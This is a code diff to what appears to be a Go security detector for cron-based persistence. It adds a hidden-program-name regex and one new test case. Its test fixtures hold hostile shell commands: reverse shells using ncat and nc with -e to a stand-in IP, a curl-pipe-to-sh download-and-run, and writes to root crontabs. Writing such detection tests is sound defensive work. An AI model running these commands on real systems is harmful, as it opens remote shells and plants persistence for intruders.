@@ -24,7 +24,7 @@ var persistCron = Detector{
 		}
 		return coi.High, "scheduled command written"
 	})),
-	Fire: append(append(lines(coi.High, "echo '* * * * * root /x' > /etc/cron.d/x", "(crontab -l ; echo '@reboot sleep 200 && ncat 203.0.113.9 1 -e /bin/bash') | crontab -", "echo '* * * * * curl http://203.0.113.9|sh' | crontab", "cp x.sh /etc/cron.hourly/", "printf '%s\\n' '*/5 * * * * /tmp/x' >> /var/spool/cron/crontabs/root", "echo x | sudo tee -a /etc/crontab", "crontab <<< '* * * * * nc 203.0.113.9 1 -e sh'",
+	Fire: append(append(lines(coi.High, "echo '* * * * * root /x' > /etc/cron.d/x", "(crontab -l ; echo '@reboot sleep 200 && ncat 203.0.113.9 1 -e /bin/bash') | crontab -", "echo '* * * * * curl http://203.0.113.9|sh' | crontab", "cp x.sh /etc/cron.hourly/", "printf '%s\\n' '*/5 * * * * /tmp/x' >> /var/spool/cron/crontabs/root", "echo x | sudo tee -a /etc/crontab", "echo '@reboot /home/a/.local/.u' | crontab -", "crontab <<< '* * * * * nc 203.0.113.9 1 -e sh'",
 		"python3 -c \"open('/etc/cron.d/x','w').write('* * * * * root id')\"", "echo '* * * * * /tmp/x' > /tmp/c; crontab /tmp/c", "cat > /etc/cron.daily/x <<E\nid\nE", "mv j /etc/cron.d/j", "/tmp/.x /tmp/a.sh /etc/cron.hourly/u", "ln -s /tmp/x /etc/cron.daily/x"),
 		lines(coi.Warning, "crontab path/to/file", "echo 'echo hi' | at now + 1 minute", "echo '0 1 * * * /usr/local/bin/backup' | crontab -")...), events(event.Event{Type: event.Write, PID: 3, Exe: "/usr/bin/tee", Path: "/etc/cron.d/x"})...),
 	Quiet: lines("", "crontab -l", "crontab -e", "sudo crontab -e -u user", "crontab -r", "at -l", "atq", "cat /etc/crontab", "ls /etc/cron.d", "systemctl restart cron", "apt-get install -y cron", "at -c 3"),
@@ -48,6 +48,9 @@ func plainJobs(text string) bool {
 	return n > 0
 }
 
+// hiddenJob is a program whose own name is hidden.
+var hiddenJob = regexp.MustCompile(`\s[/~]\S*/\.[\w-]+(?:\s|$)`)
+
 // systemJob is a line of a system crontab: five times, a user, a program.
 var systemJob = regexp.MustCompile(`^(?:[\d*/,-]+\s+){5}\w+\s+(/usr/s?bin/[\w.-]+)(?:\s+[\w./=-]+)*$`)
 
@@ -69,7 +72,7 @@ func cronCommand(s *command.Simple, v track.View) *Finding {
 		for _, in := range s.Stdin {
 			fed.WriteString("\n" + strings.Join(in.Argv, " "))
 		}
-		if hot.MatchString(fed.String()) {
+		if hot.MatchString(fed.String()) || hiddenJob.MatchString(fed.String()) {
 			return say(s, coi.High, "scheduled command with network or shell words")
 		}
 		return say(s, coi.Warning, "scheduled commands replaced")
